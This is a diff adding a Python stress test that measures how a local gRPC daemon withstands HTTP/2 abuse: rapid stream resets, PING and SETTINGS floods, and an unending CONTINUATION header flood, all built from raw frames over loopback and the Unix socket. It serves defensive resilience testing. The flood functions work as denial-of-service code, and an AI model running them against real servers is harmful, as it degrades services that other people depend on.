@@ -1,0 +1,182 @@
+"""S3: HTTP/2 turned against the daemon. What protects stands before HTTP/2: who may not connect to
+the Unix socket costs nothing. Who may, and every local user over loopback TCP, can cost processor
+time (this gRPC decodes headers without a bound); what that comes to is printed, and memory and
+other clients' calls stay within their bounds.
+"""
+
+import contextlib
+import os
+import socket
+import struct
+import threading
+import time
+
+import common
+import heliograph as hg
+from health import Served
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+END_HEADERS = 4
+OTHER_USER = 65534
+
+
+def frame(kind, flags=0, stream=0, body=b""):
+    head = struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream)
+    return head + body
+
+
+def literal(name, value):
+    """A header that is not indexed (RFC 7541, 6.2.2); both shorter than 127."""
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+CALL = (
+    b"\x83\x86"  # POST, http
+    + literal(b":path", b"/heliograph.v1.Renderer/GetServerInfo")
+    + literal(b":authority", b"x")
+    + literal(b"content-type", b"application/grpc")
+    + literal(b"te", b"trailers")
+)
+
+
+def connect(served, over):
+    if over == "tcp":
+        host, port = served.ready["listen"][0].rsplit(":", 1)
+        connection = socket.create_connection((host, int(port)), timeout=10)
+    else:
+        connection = socket.socket(socket.AF_UNIX)
+        connection.settimeout(10)
+        connection.connect(served.socket)
+    connection.sendall(PREFACE + frame(SETTINGS))
+    threading.Thread(target=swallow, args=(connection,), daemon=True).start()
+    return connection
+
+
+def swallow(connection):
+    with contextlib.suppress(OSError):
+        while connection.recv(1 << 16):
+            pass
+
+
+def header_flood(connection, size):
+    """One header of a huge claimed length, in frames that never end it."""
+    huge = b"\x00\x7f\xff\xff\xff\x7f"  # a literal whose name is 256 MiB long
+    connection.sendall(frame(HEADERS, 0, 1, CALL + huge))
+    part = frame(CONTINUATION, 0, 1, bytes(16_000))
+    for _ in range(size // len(part)):
+        connection.sendall(part)
+
+
+def rapid_reset(connection, count):
+    batch = b""
+    for i in range(count):
+        stream = 2 * i + 1
+        batch += frame(HEADERS, END_HEADERS, stream, CALL)
+        batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+        if i % 100 == 99:
+            connection.sendall(batch)
+            batch = b""
+
+
+def pings(connection, count):
+    batch = frame(PING, 0, 0, bytes(8)) * 1000
+    for _ in range(count // 1000):
+        connection.sendall(batch)
+
+
+def settings(connection, count):
+    batch = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000
+    for _ in range(count // 1000):
+        connection.sendall(batch)
+
+
+class Attack:
+    """What something costs the daemon."""
+
+    def __init__(self, served, client):
+        self.served, self.client = served, client
+
+    def __call__(self, attack, over, size):
+        """Processor seconds, MiB, and the slowest call of somebody else meanwhile."""
+        cpu, memory = self.served.cpu_seconds(), common.resident(self.served.pid)
+        slowest, done = [0.0], threading.Event()
+        other = threading.Thread(target=self._call, args=(slowest, done))
+        other.start()
+        with contextlib.suppress(OSError), connect(self.served, over) as connection:
+            attack(connection, size)
+            time.sleep(0.3)
+        self._settle()
+        done.set()
+        other.join()
+        grown = (common.resident(self.served.pid) - memory) / 2**20
+        return self.served.cpu_seconds() - cpu, grown, slowest[0]
+
+    def _call(self, slowest, done):
+        while not done.is_set():
+            start = time.perf_counter()
+            self.client.info()
+            slowest[0] = max(slowest[0], time.perf_counter() - start)
+            time.sleep(0.01)
+
+    def _settle(self, limit=120.0):
+        """Until the daemon has worked off what it was sent."""
+        end = time.perf_counter() + limit
+        while time.perf_counter() < end:
+            before = self.served.cpu_seconds()
+            time.sleep(0.3)
+            if self.served.cpu_seconds() - before < 0.1:
+                return
+
+
+def refused(served, count):
+    """Processor seconds a connection of another user costs; None where there is no other user."""
+    if os.geteuid() != 0:
+        return None
+    cpu = served.cpu_seconds()
+    child = os.fork()
+    if child == 0:
+        os.setgroups([])
+        os.setresgid(OTHER_USER, OTHER_USER, OTHER_USER)
+        os.setresuid(OTHER_USER, OTHER_USER, OTHER_USER)
+        for _ in range(count):
+            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
+                connection.connect(served.socket)
+                connection.sendall(PREFACE + bytes(100_000))
+        os._exit(0)
+    os.waitpid(child, 0)
+    time.sleep(0.2)
+    return (served.cpu_seconds() - cpu) / count
+
+
+def main():
+    with (
+        common.Report("S3 abuse of HTTP/2") as report,
+        Served("--listen", "127.0.0.1:0") as served,
+        hg.connect(served.address) as client,
+    ):
+        common.stage(client)
+        attack = Attack(served, client)
+        cost = refused(served, common.size(1000, 200))
+        if cost is not None:
+            report.figure("another user on the socket: CPU a connection", cost, 0.1, "s")
+        for over in ("unix", "tcp"):
+            attack(rapid_reset, over, 1000)  # what the allocator keeps
+            cpu, grown, slowest = attack(rapid_reset, over, common.size(20_000, 5_000))
+            report.figure(f"{over}: rapid reset: memory", grown, 20, "MiB", slack=False)
+            report.figure(f"{over}: rapid reset: CPU", cpu, 3, "s")
+            report.figure(f"{over}: rapid reset: others' slowest call", slowest, 1, "s")
+            for name, flood in (("ping", pings), ("settings", settings)):
+                cpu, grown, slowest = attack(flood, over, common.size(500_000, 50_000))
+                report.figure(f"{over}: {name} flood: memory", grown, 256, "MiB", slack=False)
+                report.figure(f"{over}: {name} flood: others' slowest call", slowest, 1, "s")
+            size = common.size(8, 2) << 20
+            cpu, grown, slowest = attack(header_flood, over, size)
+            each = cpu / (size >> 20)
+            print(f"  {over}: endless headers: {each:.2f} s of CPU a MiB (no promise)")
+            report.figure(f"{over}: endless headers: others' slowest call", slowest, 1, "s")
+        report.figure("crashes", int(served.process.poll() is not None), 0, slack=False)
+
+
+if __name__ == "__main__":
+    main()
